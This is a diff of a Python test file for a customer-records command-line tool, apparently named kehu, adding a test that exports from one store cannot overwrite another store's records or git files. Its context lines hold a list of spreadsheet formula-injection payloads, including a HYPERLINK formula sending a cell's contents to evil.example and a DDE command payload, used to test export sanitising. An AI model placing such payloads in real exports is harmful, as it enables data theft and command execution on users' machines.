@@ -15,7 +15,8 @@ import pytest
 from kehu_core.ids import shard
 from kehu_core.services.exporting import FORMULA_START
 
-from .conftest import kehu
+from .conftest import kehu, kehu_subprocess
+from .test_hostile import tree_hash
 
 NAMES = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
          "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
@@ -86,6 +87,32 @@ def test_an_export_never_overwrites_gits_files_of_the_store(tmp_path: Path) -> N
             assert result.code == 1 and "inside the store's records" in result.err, (args, result.err)
     assert {n: (path / n).read_bytes() if (path / n).exists() else None for n in names} == before
     assert kehu("export", "--format", "csv", str(path / "customers.csv"), store=path).code == 0  # beside them
+
+
+def test_an_export_never_overwrites_another_stores_records(tmp_path: Path) -> None:
+    """An export of one store (``--store``, ``KEHU_STORE``) run in another store's folder, or
+    naming a file of it: ``kehu --store A export --format csv kehu.yaml`` in B wrote a CSV over
+    B's kehu.yaml with exit 0, and every command of B then failed. The records of the store a
+    target lies in are kept as the store's own are."""
+    a, b = tmp_path / "a", tmp_path / "b"
+    for path, name in ((a, "李雷"), (b, "韩梅梅")):
+        assert kehu("init", str(path)).code == 0
+        assert kehu("customer", "add", "--name", name, store=path).code == 0
+    (cid,) = (p.name for p in (b / "customers").glob("*/*"))
+    record = f"customers/{shard(cid)}/{cid}/customer.yaml"
+    before = tree_hash(b)
+    for target in ("kehu.yaml", record, "customers/x.csv", ".gitignore", ".git/config", ".kehu/x.csv"):
+        for args in (("export", "--format", "csv", target), ("export", "--format", "xlsx", target),
+                     ("reminders", "--ics", target)):
+            result = kehu_subprocess(*args, store=a, cwd=b)
+            assert result.returncode == 1, (args, result.stdout, result.stderr)
+            assert f"is inside the store's records ({b.resolve()})" in result.stderr, result.stderr
+            assert "Traceback" not in result.stderr
+        result = kehu("export", "--format", "csv", str(b / target), store=a)
+        assert result.code == 1 and "inside the store's records" in result.err, (target, result.err)
+    assert tree_hash(b) == before
+    assert kehu("check", store=b).code == 0
+    assert kehu_subprocess("export", "--format", "csv", "a.csv", store=a, cwd=b).returncode == 0  # beside them
 
 
 def test_confidential_fields_in_plain_are_never_written_where_sync_would_share_them(tmp_path: Path) -> None:
